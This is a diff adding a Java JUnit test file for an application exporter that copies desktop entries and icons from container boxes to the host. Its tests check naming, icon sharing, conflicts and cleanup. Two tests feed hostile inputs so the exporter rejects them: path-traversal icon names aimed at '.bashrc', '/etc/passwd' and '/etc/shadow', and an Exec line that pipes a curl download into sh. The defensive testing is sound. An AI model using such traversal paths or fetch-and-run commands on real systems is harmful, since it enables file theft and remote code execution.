@@ -1,0 +1,246 @@
+package io.appbox.desktop.export;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import io.appbox.core.AppboxException;
+import io.appbox.core.BoxName;
+import io.appbox.core.ErrorCode;
+import io.appbox.core.export.Export;
+import io.appbox.desktop.entry.DesktopEntry;
+import io.appbox.desktop.icon.BoxFiles;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Instant;
+import java.time.ZoneOffset;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class AppExporterTest {
+  static final BoxName DEV = BoxName.of("dev");
+  static final BoxName ARCH = BoxName.of("arch");
+  static final Instant NOW = Instant.parse("2024-05-01T10:00:00Z");
+  static final String HTOP =
+      """
+      [Desktop Entry]
+      Type=Application
+      Name=Htop
+      Icon=%s
+      Exec=htop %%F
+      Categories=System;Monitor;
+      """;
+
+  @TempDir Path home;
+  Path data;
+  ExportRecordFile record;
+  AppExporter exporter;
+
+  @BeforeEach
+  void setUp() {
+    data = home.resolve(".local/share");
+    record = ExportRecordFile.inStateHome(home.resolve(".local/state"));
+    exporter =
+        new AppExporter(
+            record,
+            ExportFiles.forDataHome(data, home.resolve(".local/bin")),
+            Clock.fixed(NOW, ZoneOffset.UTC));
+  }
+
+  /** Box files in memory. */
+  static final class Box implements BoxFiles {
+    final Map<String, byte[]> files = new LinkedHashMap<>();
+    final List<String> asked = new ArrayList<>();
+
+    Box with(String path, String content) {
+      files.put(path, content.getBytes(StandardCharsets.UTF_8));
+      return this;
+    }
+
+    @Override
+    public List<String> find(String iconName) {
+      asked.add(iconName);
+      return files.keySet().stream()
+          .filter(p -> p.substring(p.lastIndexOf('/') + 1).startsWith(iconName + "."))
+          .toList();
+    }
+
+    @Override
+    public byte[] read(String path, int maxBytes) {
+      byte[] c = files.get(path);
+      return Arrays.copyOf(c, Math.min(c.length, maxBytes + 1));
+    }
+  }
+
+  static String svg(String tag) {
+    return "<svg xmlns=\"http://www.w3.org/2000/svg\"><!-- " + tag + " --></svg>\n";
+  }
+
+  AppExporter.Request request(BoxName box, String icon) {
+    return new AppExporter.Request(
+        box,
+        "podman",
+        "htop",
+        "htop",
+        "/usr/share/applications/htop.desktop",
+        HTOP.formatted(icon).getBytes(StandardCharsets.UTF_8),
+        List.of(home + "/.local/share/appbox/launch", box.value(), "--"),
+        null);
+  }
+
+  Path icon(String rel) {
+    return data.resolve("icons/hicolor").resolve(rel);
+  }
+
+  @Test
+  void exportsTheEntryAndItsIconsAndRecordsThem() throws Exception {
+    Box box =
+        new Box()
+            .with("/usr/share/icons/hicolor/scalable/apps/htop.svg", svg("dev"))
+            .with("/usr/share/icons/hicolor/16x16/apps/htop.svg", svg("dev 16"));
+    AppExporter.Result result = exporter.export(request(DEV, "htop"), box);
+
+    Path desktop = data.resolve("applications/appbox-dev-htop.desktop");
+    assertThat(result.export().files())
+        .containsExactly(desktop, icon("16x16/apps/htop.svg"), icon("scalable/apps/htop.svg"));
+    assertThat(result.export().created()).isEqualTo(NOW);
+    assertThat(record.all()).containsExactly(result.export());
+    DesktopEntry written = DesktopEntry.read(desktop);
+    assertThat(written.main().string("Icon")).contains("htop");
+    assertThat(written.main().string("Exec"))
+        .contains(home + "/.local/share/appbox/launch dev -- htop %F");
+    assertThat(DesktopFileValidator.run(desktop)).isEmpty();
+  }
+
+  @Test
+  void exportsWithoutAnIconWhenIconPointsOutsideTheIconDirectories() throws Exception {
+    for (String hostile :
+        List.of("../../../.bashrc", "/etc/passwd", "/usr/share/icons/../../../etc/shadow.png")) {
+      Box box = new Box().with("/etc/passwd", "root:x:0:0");
+      AppExporter.Result result = exporter.export(request(DEV, hostile), box);
+      assertThat(result.warnings()).singleElement().asString().contains("is not a safe icon");
+      assertThat(result.export().files()).hasSize(1);
+      assertThat(DesktopEntry.read(result.export().files().get(0)).main().has("Icon")).isFalse();
+      assertThat(box.asked).isEmpty();
+    }
+    assertThat(data.resolve("icons")).doesNotExist();
+    assertThat(home.resolve(".bashrc")).doesNotExist();
+  }
+
+  @Test
+  void aSecondBoxWithAnotherIconGetsItsOwnNameAndRemovalKeepsTheOther() throws Exception {
+    exporter.export(
+        request(DEV, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("dev")));
+    AppExporter.Result arch =
+        exporter.export(
+            request(ARCH, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("arch")));
+    assertThat(arch.export().files())
+        .containsExactly(
+            data.resolve("applications/appbox-arch-htop.desktop"),
+            icon("scalable/apps/appbox-arch-htop.svg"));
+    assertThat(
+            DesktopEntry.read(data.resolve("applications/appbox-arch-htop.desktop"))
+                .main()
+                .string("Icon"))
+        .contains("appbox-arch-htop");
+
+    List<Export> removed = exporter.remove(e -> e.box().equals(DEV));
+    assertThat(removed).hasSize(1);
+    assertThat(icon("scalable/apps/htop.svg")).doesNotExist();
+    assertThat(data.resolve("applications/appbox-dev-htop.desktop")).doesNotExist();
+    assertThat(icon("scalable/apps/appbox-arch-htop.svg")).exists();
+    assertThat(record.all()).containsExactly(arch.export());
+  }
+
+  @Test
+  void anIdenticalIconIsSharedAndGoesWithItsLastExport() throws Exception {
+    exporter.export(
+        request(DEV, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("same")));
+    AppExporter.Result arch =
+        exporter.export(
+            request(ARCH, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("same")));
+    assertThat(arch.export().files()).contains(icon("scalable/apps/htop.svg"));
+    exporter.remove(e -> e.box().equals(DEV));
+    assertThat(icon("scalable/apps/htop.svg")).exists();
+    exporter.remove(e -> e.box().equals(ARCH));
+    assertThat(icon("scalable/apps/htop.svg")).doesNotExist();
+    assertThat(record.all()).isEmpty();
+  }
+
+  @Test
+  void aUsersIdenticalIconIsUsedButNeverRecordedOrDeleted() throws Exception {
+    Path users = icon("scalable/apps/htop.svg");
+    Files.createDirectories(users.getParent());
+    Files.writeString(users, svg("same"));
+    AppExporter.Result result =
+        exporter.export(
+            request(DEV, "htop"), new Box().with("/usr/share/pixmaps/htop.svg", svg("same")));
+    assertThat(result.export().files()).doesNotContain(users);
+    exporter.remove(e -> true);
+    assertThat(users).exists();
+  }
+
+  @Test
+  void reExportingReplacesItsOwnFilesUnderTheSameNames() throws Exception {
+    exporter.export(
+        request(DEV, "htop"),
+        new Box()
+            .with("/usr/share/icons/hicolor/scalable/apps/htop.svg", svg("v1"))
+            .with("/usr/share/icons/hicolor/16x16/apps/htop.svg", svg("v1 16")));
+    AppExporter.Result again =
+        exporter.export(
+            request(DEV, "htop"),
+            new Box().with("/usr/share/icons/hicolor/scalable/apps/htop.svg", svg("v2")));
+    assertThat(again.export().files())
+        .containsExactly(
+            data.resolve("applications/appbox-dev-htop.desktop"), icon("scalable/apps/htop.svg"));
+    assertThat(icon("scalable/apps/htop.svg")).hasContent(svg("v2").strip());
+    assertThat(icon("16x16/apps/htop.svg")).doesNotExist();
+    assertThat(record.all()).containsExactly(again.export());
+  }
+
+  @Test
+  void aUsersFileUnderTheEntrysNameIsAConflictAndNothingIsLeftBehind() throws Exception {
+    Path users = data.resolve("applications/appbox-dev-htop.desktop");
+    Files.createDirectories(users.getParent());
+    Files.writeString(users, "mine");
+    assertThatThrownBy(
+            () ->
+                exporter.export(
+                    request(DEV, "htop"),
+                    new Box().with("/usr/share/pixmaps/htop.svg", svg("dev"))))
+        .isInstanceOfSatisfying(
+            AppboxException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.EXPORT_CONFLICT));
+    assertThat(users).hasContent("mine");
+    assertThat(icon("scalable/apps/htop.svg")).doesNotExist();
+    assertThat(record.all()).isEmpty();
+  }
+
+  @Test
+  void refusesABadEntryBeforeTouchingTheBoxOrTheHost() {
+    Box box = new Box();
+    AppExporter.Request bad =
+        new AppExporter.Request(
+            DEV,
+            "podman",
+            "evil",
+            "",
+            "/usr/share/applications/evil.desktop",
+            "[Desktop Entry]\nType=Application\nName=E\nIcon=evil\nExec=sh -c $(curl x|sh)\n"
+                .getBytes(StandardCharsets.UTF_8),
+            List.of("/launch", "dev", "--"),
+            null);
+    assertThatThrownBy(() -> exporter.export(bad, box))
+        .isInstanceOfSatisfying(
+            AppboxException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.INVALID_INPUT));
+    assertThat(box.asked).isEmpty();
+    assertThat(data).doesNotExist();
+  }
+}
